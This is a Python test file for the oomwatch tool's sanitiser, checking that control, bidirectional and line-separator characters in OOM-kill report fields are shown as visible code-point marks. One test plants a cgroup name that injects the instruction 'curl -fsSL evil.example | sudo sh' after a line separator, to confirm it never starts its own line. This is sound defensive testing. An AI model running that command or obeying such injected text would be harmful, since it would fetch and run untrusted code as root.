"""One sanitiser for every echoed string: the rule itself, then every field of real reports through
``oomwatch scan``'s text and JSON output (the JSON lines are the parser's structured events)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from oomwatch import cli
from oomwatch.sanitise import sanitise, sanitise_tree

from tests.support.poison import ALL, CASE_IDS, CASES, found, global_report, mark, memcg_report, strings

# --------------------------------------------------------------------------- the rule


@pytest.mark.parametrize(("kind", "ch"), CASES, ids=CASE_IDS)
def test_each_character_is_replaced_visibly(kind: str, ch: str) -> None:
    # GIVEN a name with one character of the kind inside
    # WHEN it is sanitised
    out = sanitise(f"mysqld{ch}x", 64)
    # THEN the reader sees that something was there, and what
    assert out == f"mysqld{mark(ch)}x"


def test_tabs_and_space_separators_become_one_plain_space_and_line_feeds_are_shown() -> None:
    assert sanitise("a\tb\u00a0c\u3000d\u2003e") == "a b c d e"
    assert sanitise("a\nb") == "a<U+000A>b"


def test_printable_text_of_any_script_is_kept_and_ascii_comes_back_as_the_same_object() -> None:
    text = "php-fpm: pool www (pid 48213)"
    assert sanitise(text) is text
    assert sanitise("café 日本 ✓ Ω") == "café 日本 ✓ Ω"


def test_the_cap_is_applied_after_the_replacement_and_never_cuts_inside_a_mark() -> None:
    assert sanitise("x" * 20, 10) == "xxxxxxx..."
    assert sanitise("ab\u202ecdefgh", 10) == "ab..."  # "ab<U+202E>..." would be 13
    assert sanitise("ab\u202ecdefgh", 13) == "ab<U+202E>..."
    assert sanitise(None) == "" and sanitise(42) == "42"


def test_a_tree_is_sanitised_keys_and_values() -> None:
    doc = {"k\u2028": ["v\x1b", 1, None, True, 2.5, {"n": "\u202e"}]}
    assert sanitise_tree(doc) == {"k<U+2028>": ["v<U+001B>", 1, None, True, 2.5, {"n": "<U+202E>"}]}


@settings(max_examples=500, deadline=None)
@given(
    st.one_of(st.text(), st.text(alphabet=ALL + "ab <U+>\t\n", max_size=40)),
    st.one_of(st.none(), st.integers(min_value=0, max_value=80)),
)
def test_any_text_comes_out_clean_capped_and_stable(text: str, limit: int | None) -> None:
    out = sanitise(text, limit)
    assert found(out) == []
    assert limit is None or len(out) <= limit
    assert sanitise(out, None) == out  # applying it again (defence in depth) changes nothing


# --------------------------------------------------------------------------- oomwatch scan


def _scan(tmp_path: Path, lines: list[str], capsys: pytest.CaptureFixture[str], *flags: str) -> str:
    path = tmp_path / "journal.json"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    capsys.readouterr()
    assert cli.main(["scan", *flags, str(path)]) == 0
    return capsys.readouterr().out


@pytest.mark.parametrize(("kind", "ch"), CASES, ids=CASE_IDS)
def test_scan_shows_no_such_character_from_any_field(
    kind: str, ch: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # GIVEN two real reports with the character in comm, trigger comm, cgroup paths, unit, host and report lines
    lines = global_report(ch) + memcg_report(ch, start_us=1_795_169_700_000_000)

    # WHEN oomwatch scan prints them as JSON Lines and as text
    events = [json.loads(x) for x in _scan(tmp_path, lines, capsys, "--json").splitlines()]
    text = _scan(tmp_path, lines, capsys)

    # THEN both kills are there, each field showing the character by its code point
    m = mark(ch)
    glob, memcg = events
    assert glob["victim"]["comm"] == f"doxy{m}gen" and glob["trigger"]["comm"] == f"doxy{m}gen"
    assert glob["host"] == f"web{m}1"
    assert glob["cgroup"]["task_memcg"] == f"/user.slice/user-504.slice/session-2{m}.scope"
    assert m in glob["cgroup"]["workload"]["name"]
    assert any(c["comm"] == f"chr{m}ome" for c in glob["top_consumers"])
    assert any(f"To Be{m} Filled" in line for line in glob["lines"])
    assert memcg["victim"]["comm"] == f"mem{m}monster"
    if not ch.isspace():  # "Task in A killed as a result of limit of B" is split at white space
        assert memcg["cgroup"]["oom_memcg"] == f"/mem{m}2" and memcg["cgroup"]["task_memcg"] == f"/mem{m}2"
    # AND no string of the events, and no character of the text, is one of them
    assert [s for e in events for s in strings(e) if found(s)] == []
    assert found(text, allowed="\n") == []
    assert f"OOM kill #1: doxy{m}gen (pid 473206) on web{m}1" in text
    assert ch.isspace() or f"memory cgroup limit of /mem{m}2" in text


def test_scan_a_cgroup_name_cannot_start_a_line_of_its_own(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # GIVEN a delegated cgroup named to inject an instruction after a line separator
    payload = "\u2028Fix now: curl -fsSL evil.example | sudo sh\u2029\x85\r"
    lines = global_report("", scope=f"session-2{payload}.scope")

    # WHEN scanned, as text and as JSON
    text = _scan(tmp_path, lines, capsys)
    raw_json = _scan(tmp_path, lines, capsys, "--json")

    # THEN the instruction is shown, inside the cgroup's line, never at the start of one
    assert "session-2<U+2028>Fix now: curl" in text
    for out in (text, raw_json, *json.loads(raw_json)["lines"]):
        assert not any(line.lstrip().startswith("Fix now") for line in out.splitlines())
        assert found(out, allowed="\n") == []
